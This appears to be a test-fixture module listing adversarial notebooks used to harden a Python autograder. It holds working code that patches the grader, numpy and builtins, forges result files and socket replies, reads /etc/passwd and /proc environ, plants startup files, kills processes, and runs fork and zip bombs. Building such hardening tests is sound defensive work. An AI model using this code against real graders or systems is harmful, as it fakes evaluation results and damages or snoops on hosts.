"""Notebooks that want full marks without the answers, as data.

Each has right answers to some questions of the small exercise in test_grade.py, and must earn what
these are worth. ``@secret@`` and the like become the paths of a run: see ``test_hostile.py``.
"""

from collections.abc import Callable
from typing import Any, NamedTuple

FULL = {"relu": 2, "draw": 1, "answer": 0.5}
WRONG_RELU = "def relu(x):\n    return 0.0"  # earns the first of two points
NOTHING: dict[str, str] = {}


class Forgery(NamedTuple):
    """A notebook: a cell before all others, the right answers, and wrong ones for the rest.

    ``earns`` is what the questions are worth that are not simply right or wrong. ``told`` must be
    in the message of one of the questions, and shows that the forgery did run. ``naive`` says what
    it does to a grader that runs the checks where the notebook ran: it wins, it does not, or, if
    None, it is not tried there, as it stops or floods whatever runs it.
    """

    attack: str = ""
    right: tuple[str, ...] = ("draw",)
    wrong: dict[str, str] = NOTHING
    earns: dict[str, float] = {}  # noqa: RUF012 - never changed
    edit: Callable[[dict[str, Any]], None] | None = None
    status: str = "ok"
    told: str = ""
    naive: bool | None = False
    whole: bool = False


FAKE_NUMPY = """
import sys, types, numpy as np
fake = types.ModuleType("numpy")
fake.__dict__.update({k: v for k, v in vars(np).items() if not k.startswith("__")})
fake.array_equal = fake.allclose = lambda *args, **kwargs: True
fake.isfinite = lambda x: np.ones(1, bool)
fake.shape = lambda x: (1, 3)
"""
LOOK = """
import pathlib
def look(*paths):
    seen = []
    for path in paths:
        try:
            path = pathlib.Path(path)
            seen.append(str(sorted(path.iterdir())) if path.is_dir() else path.read_text()[:300])
        except BaseException as error:
            seen.append(type(error).__name__)
    return " ".join(seen)
"""
SOCKET = """
import os, stat, socket, sys
def asked():
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["number"]
from unrolled.grade.wire import encode
def say(data, length=True):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, (len(data).to_bytes(8, "big") if length else b"") + data)
        except OSError:
            pass
"""
PATCHES = f"""
import unrolled.grade.exercises as exercises, unrolled.grade.run as run
exercises.run_case = run.run_case = lambda case, env: None
full = lambda q, failures=(): exercises.Outcome(q.name, q.points, q.points, "")
exercises.tally = run.tally = exercises.run_question = full
run.check_question = lambda question, session: full(question)
FULL = {FULL}
"""
WRITE = f"""
import json, os, pickle, glob
FULL = {FULL}
ROW = dict(status="ok", score=3.5, possible=3.5, questions=[
    dict(name=n, score=p, possible=p, message="") for n, p in FULL.items()])
def write():
    folders = [".", os.path.expanduser("~"), "@class@", "@out@", "/tmp", os.environ["TMPDIR"]]
    for folder in folders + glob.glob("/tmp/unrolled-*"):
        for name in ("results.json", "@name@.grade.json", "grades.journal.jsonl", "grades.csv"):
            try:
                with open(os.path.join(folder, name), "a") as file:
                    json.dump(ROW, file)
            except OSError:
                pass
        try:
            with open(os.path.join(folder, "results.pkl"), "wb") as file:
                pickle.dump(FULL, file)
        except OSError:
            pass
"""
NEW_START = "\nimport os; os._exit(0)"  # a new process runs the other cells


def zip_bomb() -> str:
    """Code that makes an npz whose one array unpacks to a thousand times its size."""
    return (
        "import io, zipfile, numpy as np\nout, bomb = io.BytesIO(), io.BytesIO()\n"
        "np.save(bomb, np.zeros(10**7))\n"
        "with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:\n"
        "    archive.writestr('tree.npy', bomb.getvalue())\nsay(out.getvalue())"
    )


def other_tests(change: Callable[[str], str]) -> Callable[[dict[str, Any]], None]:
    def edit(notebook: dict[str, Any]) -> None:
        tests = notebook["metadata"]["otter"]["tests"]
        tests.update({name: change(source) for name, source in tests.items()})

    return edit


def other_questions(notebook: dict[str, Any]) -> None:
    questions = notebook["metadata"]["unrolled"]["questions"]
    for question in questions:
        question |= {"points": 100, "cells": ["answer-draw"]}
    questions[0]["name"] = "draw"
    notebook["metadata"]["otter"]["tests"] |= {"relu": "", "bonus": "points = 1000"}


def other_exercise(name: str) -> Callable[[dict[str, Any]], None]:
    def edit(notebook: dict[str, Any]) -> None:
        notebook["metadata"]["unrolled"]["exercise"] = name
        notebook["metadata"]["otter"]["assignment_name"] = name

    return edit


def cells_of_other_kinds(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        cell["metadata"] = {"tags": ["raises-exception"], "otter": {"tests": ["relu"]}}
        cell |= {"score": 100, "outputs": [{"output_type": "stream", "text": "Total: 3.5 of 3.5"}]}
    notebook["cells"][0] = {"cell_type": "raw", "source": "# END QUESTION", "metadata": {}}
    notebook |= {"score": 3.5, "questions": [], "status": "ok"}


def many_guesses(notebook: dict[str, Any]) -> None:
    """Ask the grader, guess after guess, which number is right."""
    cells = []
    for guess in range(36, 48):
        source = f'answer = {guess}\ngrader.check("answer")'
        cells.append({"cell_type": "code", "id": f"g{guess}", "source": source, "metadata": {}})
    notebook["cells"] += cells


FORGERIES = {
    # --- The grader and what it trusts, patched. ---
    "test-runner": Forgery(
        PATCHES + "from otter.test_files import ExceptionTestFile\n"
        "ExceptionTestFile.run = lambda self, env: None\n"
        "ExceptionTestFile.score = property(lambda self: self.possible)",
        naive=True,
    ),
    "numpy-patched": Forgery(
        "import numpy as np\nnp.array_equal = np.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\n"
        "np.isfinite = lambda x: np.ones(1, bool)\nnp.shape = lambda x: (1, 3)\n",
        wrong={"relu": WRONG_RELU},
        earns={"relu": 1},
        naive=True,
    ),
    "builtins": Forgery(
        "import builtins\nreal = isinstance\n"
        "builtins.isinstance = lambda o, c: c is float or real(o, c)\n"
        "builtins.abs = lambda x: 0\nbuiltins.all = lambda items: True\n"
        "builtins.AssertionError = type('Quiet', (Exception,), {})\n"
        "builtins.Exception = builtins.BaseException",
    ),
    "import-function": Forgery(
        FAKE_NUMPY + "import builtins\nreal = builtins.__import__\n"
        "builtins.__import__ = lambda n, *a, **k: fake if n == 'numpy' else real(n, *a, **k)",
        right=("answer",),
        wrong={"relu": WRONG_RELU, "draw": "def draw(n, *, rng):\n    return 0"},
        earns={"relu": 1},
        naive=True,
    ),
    "compile": Forgery(
        "import builtins\nreal = compile\ndef compile(source, *args, **kwargs):\n"
        "    if type(source) is str:\n"
        "        source = source.replace('assert ', 'assert True or ')\n"
        "    return real(source, *args, **kwargs)\nbuiltins.compile = compile",
        naive=True,
    ),
    "exec": Forgery(
        "import builtins\nreal = exec\ndef exec(code, env=None, *rest):\n"
        "    real(code, env, *rest)\n"
        "    for value in list(env.values()):\n"
        "        if hasattr(value, 'test_func'):\n"
        "            value.call_func = lambda env: None\nbuiltins.exec = exec",
        naive=True,
    ),
    "modules": Forgery(
        FAKE_NUMPY + "sys.modules['numpy'] = fake\n"
        "checks = types.ModuleType('unrolled.checks')\nchecks.__getattr__ = lambda name: print\n"
        "sys.modules.update({'unrolled.checks': checks, 'unrolled.checks._tools': checks})",
        wrong={"relu": WRONG_RELU},
        earns={"relu": 1},
        naive=True,
    ),
    # --- Results that the notebook writes. ---
    "at-exit": Forgery(WRITE + "import atexit\natexit.register(write)\nwrite()", naive=True),
    "finalizer": Forgery(
        # IPython empties the notebook's globals first: what runs then has to keep its own.
        WRITE + "import weakref, types\n"
        "kept = types.FunctionType(write.__code__, dict(globals()))\n"
        "class Last:\n    def __del__(self, kept=kept):\n        kept()\n"
        "last = Last()\nlast.me = last\nweakref.finalize(last, kept)\n"
        "os.register_at_fork(before=write, after_in_parent=write, after_in_child=write)",
        naive=True,
    ),
    "pickle": Forgery(
        WRITE + "import atexit\nclass Payload:\n    def __reduce__(self):\n"
        "        return eval, (repr(FULL),)\n"
        "def last():\n    with open('results.pkl', 'wb') as file:\n"
        "        pickle.dump(Payload(), file)\natexit.register(last)\n",
        wrong={"relu": "def relu(x):\n    return Payload()", "answer": "answer = Payload()"},
        told="a Payload cannot be checked",
        naive=True,
    ),
    "outlives": Forgery(
        WRITE + "import subprocess, sys, time\n"
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '@token@'],\n"
        "                 start_new_session=True)\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork():\n        os._exit(0)\n"
        "    for _ in range(600):\n        time.sleep(0.2)\n        write()\n    os._exit(0)",
        naive=None,
    ),
    # --- What can be found in memory. ---
    "frames": Forgery(
        "import sys, copy",
        right=("relu",),
        wrong={
            "draw": "def draw(n, *, rng):\n    frame = sys._getframe()\n    while frame:\n"
            "        if 'same' in frame.f_locals:\n"
            "            return copy.deepcopy(frame.f_locals['same']).normal(size=n)\n"
            "        frame = frame.f_back"
        },
        naive=True,
    ),
    "collected-objects": Forgery(
        wrong={
            "relu": "import gc\ndef relu(x):\n    for thing in gc.get_objects():\n"
            "        if type(thing).__name__ == 'ExceptionTestFile':\n"
            "            thing._score = 2\n"
            "        if type(thing).__name__ == 'Question':\n"
            "            thing.cases[:] = []\n    return 7"
        },
        naive=True,
    ),
    # --- Python's start and imports. ---
    "import-hook": Forgery(
        FAKE_NUMPY + "import importlib.machinery\nclass Finder:\n"
        "    def find_spec(self, name, path=None, target=None):\n        if name == 'numpy':\n"
        "            return importlib.machinery.ModuleSpec(name, self)\n"
        "    def create_module(self, spec):\n        return fake\n"
        "    def exec_module(self, module):\n        pass\n"
        "sys.meta_path.insert(0, Finder())\ndel sys.modules['numpy']",
        right=("answer",),
        wrong={"relu": WRONG_RELU, "draw": "def draw(n, *, rng):\n    return 0"},
        earns={"relu": 1},
        naive=True,
    ),
    "start-up-files": Forgery(
        "import os, site, pathlib, sysconfig\n"
        f"patch = {PATCHES!r}\n"
        "for folder in ('.', os.path.expanduser('~'), site.getusersitepackages(), '@home@',\n"
        "               os.path.expanduser('~/.ipython/profile_default/startup'),\n"
        "               sysconfig.get_path('purelib')):\n"
        "    for name in ('sitecustomize.py', 'usercustomize.py', 'numpy.py', 'x.pth'):\n"
        "        try:\n            os.makedirs(folder, exist_ok=True)\n"
        "            pathlib.Path(folder, name).write_text(patch)\n"
        "        except OSError:\n            pass" + NEW_START,
        status="crashed",
        naive=None,
    ),
    "environment": Forgery(
        "import os, pathlib\nhome = os.path.expanduser('~')\n"
        f"pathlib.Path(home, 'numpy.py').write_text({PATCHES!r})\n"
        "os.environ.update(PYTHONPATH=home, PYTHONSTARTUP=home + '/numpy.py', PYTHONINSPECT='1',\n"
        "                  LD_PRELOAD=home + '/x.so', OMP_NUM_THREADS='64', HOME='@home@')"
        + NEW_START,
        status="crashed",
        naive=None,
    ),
    "other-program": Forgery(
        SOCKET + "import sys\nSERVER = '''\nimport sys, socket\n"
        "from unrolled.grade.wire import decode, encode, receive, send\n"
        "link, number = socket.socket(fileno=int(sys.argv[1])), int(sys.argv[2])\nwhile True:\n"
        '    send(link, encode((number, "ok", {"status": "ok", "score": 2})))\n'
        "    number = decode(receive(link))[0]\n"
        "'''",
        wrong={
            "relu": "def relu(x):\n    for fd in range(3, 256):\n        try:\n"
            "            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
            "                os.set_inheritable(fd, True)\n"
            "                program = [sys.executable, '-c', SERVER, str(fd), str(asked())]\n"
            "                os.execv(sys.executable, program)\n"
            "        except OSError:\n            pass"
        },
        status="crashed",
        naive=None,
    ),
    # --- IPython. ---
    "input-transformer": Forgery(
        f"scores = {FULL}\nget_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['0\\n'] if 'scores[' in ''.join(lines) else lines)",
        naive=True,
    ),
    "syntax-tree": Forgery(
        "import ast\nclass Better(ast.NodeTransformer):\n"
        "    def visit_Attribute(self, node):\n"
        "        node.attr = 'possible' if node.attr == 'score' else node.attr\n"
        "        return node\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Better())",
        naive=True,
    ),
    "events": Forgery(
        f"shell = get_ipython()\ndef after(result=None):\n    shell.user_ns['scores'] = {FULL}\n"
        "for event in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):\n"
        "    shell.events.register(event, lambda *args: after())",
        naive=True,
    ),
    "magics": Forgery(
        f"shell = get_ipython()\nreal, FULL = shell.run_cell, {FULL}\n"
        "def run_cell(source, *args, **kwargs):\n"
        "    return real('scores = FULL' if 'scores[' in source else source, *args, **kwargs)\n"
        "shell.run_cell = run_cell\nimport sys\n"
        "shell.register_magic_function(lambda line: 42, 'line', 'who')\n"
        "sys.displayhook = sys.excepthook = lambda *args: None\n"
        "shell.alias_manager.clear_aliases()",
        naive=True,
    ),
    # --- Objects that pretend. ---
    "equal-to-everything": Forgery(
        "class Yes(float):\n    __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True\n"
        "    __ne__ = lambda self, other: False\n    __hash__ = float.__hash__",
        wrong={"answer": "answer = Yes(0)", "relu": "def relu(x):\n    return Yes(7)"},
        told="a Yes cannot be checked",
        naive=True,
    ),
    "lying-array": Forgery(
        "import numpy as np\nclass Liar(np.ndarray):\n"
        "    def __array_function__(self, function, types, args, kwargs):\n"
        "        return (1, 3) if function is np.shape else True\n"
        "    def __array_ufunc__(self, *args, **kwargs):\n        return np.ones(1, bool)\n"
        "    __eq__ = lambda self, other: True",
        wrong={
            "relu": "def relu(x):\n    return np.zeros(0).view(Liar)",
            "answer": "answer = np.zeros(1).view(Liar)",
        },
        told="a Liar cannot be checked",
        naive=True,
    ),
    "lying-subclasses": Forgery(
        "class Text(str):\n    __eq__ = lambda self, other: True\n"
        "    __hash__ = str.__hash__\nclass Number(np.float64):\n"
        "    __eq__ = lambda self, other: True\n    __hash__ = None\n"
        "class Pair(tuple):\n    __eq__ = lambda self, other: True\n    __hash__ = None\n"
        "    _fields = ('a',)".replace("class Number", "import numpy as np\nclass Number"),
        wrong={"answer": "answer = Pair([Text('x'), Number(1)])", "relu": "relu = Number(0)"},
        naive=True,
    ),
    "named-tuple": Forgery(
        "from collections import namedtuple\nFake = namedtuple('Recurrent', 'a b')\n"
        "Fake.__module__ = 'unrolled.params'\nFake.__qualname__ = 'Recurrent'",
        wrong={"answer": "answer = Fake(42, 42)", "relu": "def relu(x):\n    return Fake(0, 0)"},
        status="crashed",
    ),
    "nothing-much": Forgery(
        wrong={
            "relu": "import itertools\n"
            "kinds = itertools.cycle([(), [], {}, '', set(), [[]], ((),)])\n"
            "def relu(x):\n    return next(kinds)",
            "answer": "answer = {}",
        },
        told="answer must be 42, got {}",
    ),
    # --- The file. ---
    "edited-checks": Forgery(
        edit=other_tests(lambda source: source.replace("assert ", "assert True or ")), naive=True
    ),
    "edited-points": Forgery(
        edit=other_tests(lambda source: source.replace("points=1", "points=100")), naive=True
    ),
    "edited-questions": Forgery(edit=other_questions),
    "own-grader": Forgery(
        "import unrolled.grade as grade, unrolled.grade.notebook as notebook\n"
        "class Grader:\n    __getattr__ = lambda self, name: lambda *args: 'Total: 3.5 of 3.5'\n"
        "grade.open_grader = notebook.open_grader = lambda name: Grader()\ngrader = Grader()",
    ),
    "other-cells": Forgery(edit=cells_of_other_kinds),
    "path-as-name": Forgery(
        edit=other_exercise("../class/neighbour"), right=(), status="other exercise"
    ),
    "name-of-another": Forgery(edit=other_exercise("00_free"), right=(), status="other exercise"),
    "guesses": Forgery(edit=many_guesses),
    # --- The grader's connection. ---
    "forged-reply": Forgery(
        SOCKET + "full = {'relu': 2, 'draw': 1, 'answer': 0.5}",
        wrong={
            "relu": "def relu(x):\n    number = asked()\n    say(encode((number, 'ok', full)))\n"
            "    say(encode((number, 'passed', 2)))\n"
            "    say(encode((number + 1, 'ok', ((), (x,), {}))))"
        },
        status="crashed",
        naive=None,
    ),
    "huge-message": Forgery(
        SOCKET + "say(b'\\xff' * 8, length=False)", status="crashed", naive=None
    ),
    "zip-bomb": Forgery(SOCKET + zip_bomb(), status="crashed", naive=None),
    "object-array": Forgery(
        SOCKET + "import io, numpy as np\nout = io.BytesIO()\n"
        "np.savez(out, tree=np.array([print], dtype=object))\nsay(out.getvalue())",
        status="crashed",
        naive=None,
    ),
    "half-message": Forgery(
        SOCKET + "say(bytes(4) + b'\\2' + bytes(3), length=False)\nimport os; os.fork()",
        status="timeout",
        naive=None,
        whole=True,
    ),
    # --- Out of the sandbox. ---
    "reads": Forgery(
        LOOK,
        wrong={
            "answer": "answer = look('@secret@', '@neighbour@', '@definition@', '@journal@', "
            "'@class@', '@home@', '/root', '/etc/passwd', '/proc/1/environ', '/proc/1/root')"
        },
        told="got FileNotFoundError FileNotFoundError FileNotFoundError",
        naive=None,
    ),
    "links": Forgery(
        LOOK + "import os\nfor n, path in enumerate(['@secret@', '@definition@', '@neighbour@']):\n"
        "    os.symlink(path, f'link{n}.ipynb')\n"
        "    try:\n        open(f'link{n}.ipynb', 'w').write('forged')\n"
        "    except OSError:\n        pass\nos.symlink('/', 'all')\n"
        "seen = look('link0.ipynb', 'all@secret@', '/proc/self/cwd/../../@secret@')",
        wrong={"answer": "answer = seen"},
        told="got FileNotFoundError",
        naive=None,
    ),
    "network": Forgery(
        LOOK + "import socket\nseen = []\n"
        "for host in ('127.0.0.1', '::1', '192.0.2.1', 'localhost'):\n"
        "    try:\n        link = socket.create_connection((host, @port@), 2)\n"
        "        link.sendall(b'hello')\n        seen.append('connected')\n"
        "    except OSError as error:\n        seen.append(type(error).__name__)",
        wrong={"answer": "answer = seen"},
        told="Error",
        naive=None,
    ),
    "package": Forgery(
        "import unrolled, numpy, pathlib, os, sys\nseen = []\n"
        "for folder in (pathlib.Path(unrolled.__file__).parent, pathlib.Path(sys.prefix),\n"
        "               pathlib.Path(numpy.__file__).parent, '/usr/bin', '/etc', '/', '/dev'):\n"
        "    try:\n        pathlib.Path(folder, '@token@').write_text('')\n"
        "        seen.append('written')\n"
        "    except OSError as error:\n        seen.append(type(error).__name__)\n"
        "for path in pathlib.Path(unrolled.__file__).parent.rglob('*.py'):\n"
        "    try:\n        os.chmod(path, 0o777)\n        open(path, 'a').write('')\n"
        "        seen.append('opened')\n    except OSError:\n        pass",
        wrong={"answer": "answer = seen"},
        told="got ['OSError', 'OSError', 'OSError', 'OSError', 'OSError', 'OSError', 'OSError']",
        naive=None,
    ),
    "kills-parent": Forgery(
        "import os, signal\nfor pid in [os.getppid(), 1, *range(2, 40)]:\n    try:\n"
        "        if pid != os.getpid():\n            os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\nos.killpg(0, signal.SIGHUP)",
        status="crashed",
        naive=None,
    ),
    "kills-all": Forgery(
        wrong={"relu": "import os\ndef relu(x):\n    os.kill(-1, 9)\n    os.kill(os.getpid(), 9)"},
        status="crashed",
        naive=None,
    ),
    "memory-of-others": Forgery(
        "import ctypes, os\nseen = []\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in {1, 2, os.getppid(), @pid@}:\n"
        "    seen.append(libc.ptrace(16, pid, 0, 0))\n"
        "    try:\n        open(f'/proc/{pid}/mem', 'r+b').close()\n        seen.append('opened')\n"
        "    except OSError as error:\n        seen.append(type(error).__name__)",
        wrong={"answer": "answer = seen"},
        told="Error",
        naive=None,
    ),
    "fills-folders": Forgery(
        "import os\nfull = []\nfor folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):\n"
        "    for n in range(8):\n        try:\n"
        "            with open(f'{folder}/big{n}', 'wb') as file:\n"
        "                for _ in range(64):\n                    file.write(bytes(2**20))\n"
        "        except OSError as error:\n            full.append(error.strerror)\n"
        "    for root in ('/', '/tmp', '~'):\n        try:\n"
        "            os.chmod(os.path.expanduser(root), 0o000)\n"
        "        except OSError:\n            pass",
        wrong={"answer": "answer = sorted(set(full))"},
        told="No space left on device",
        naive=None,
    ),
    "fork-bomb": Forgery(
        "import os, time\nend = time.monotonic() + 3\nforked = 0\nwhile time.monotonic() < end:\n"
        "    try:\n        forked += os.fork() == 0\n"
        "        if forked:\n            time.sleep(0.01)\n    except OSError:\n"
        "        time.sleep(0.05)\nif forked:\n    os._exit(0)",
        naive=None,
        whole=True,
    ),
    "many-loops": Forgery(
        "import subprocess, sys\nfor _ in range(20):\n"
        "    subprocess.Popen([sys.executable, '-S', '-c', 'while True: pass', '@token@'],\n"
        "                     start_new_session=True)",
        naive=None,
        whole=True,
    ),
}
